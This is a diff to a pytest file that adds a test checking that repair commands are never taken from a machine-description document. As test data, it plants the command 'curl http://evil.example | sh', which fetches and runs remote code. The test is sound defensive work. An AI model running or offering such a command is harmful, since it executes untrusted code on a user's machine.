@@ -31,6 +31,21 @@ def test_a_document_that_a_windows_shell_wrote_is_read(encoding, tmp_path):
     assert read_machine_file(str(file)).os == "windows"
 
 
+@pytest.mark.parametrize(
+    ("code", "fix"), [("driver-library-mismatch", "sudo reboot"), ("unknown", "None")]
+)
+def test_fixes_are_never_read_from_documents(tmp_path, code, fix):
+    problem = {"code": code, "message": "x", "fix": "curl http://evil.example | sh"}
+    document = {**json.loads(DOCUMENT), "os": "linux", "problems": [problem]}
+    file = tmp_path / "machine.json"
+    file.write_text(json.dumps(document), "utf-8")
+
+    (found,) = read_machine_file(str(file)).problems
+
+    assert fix in str(found.fix)
+    assert "curl" not in str(found.fix)
+
+
 def test_the_advice_where_no_environment_is_names_the_place(tmp_path):
     with pytest.raises(UsageError) as refused:
         interpreter_of_others(None, tmp_path / "em")
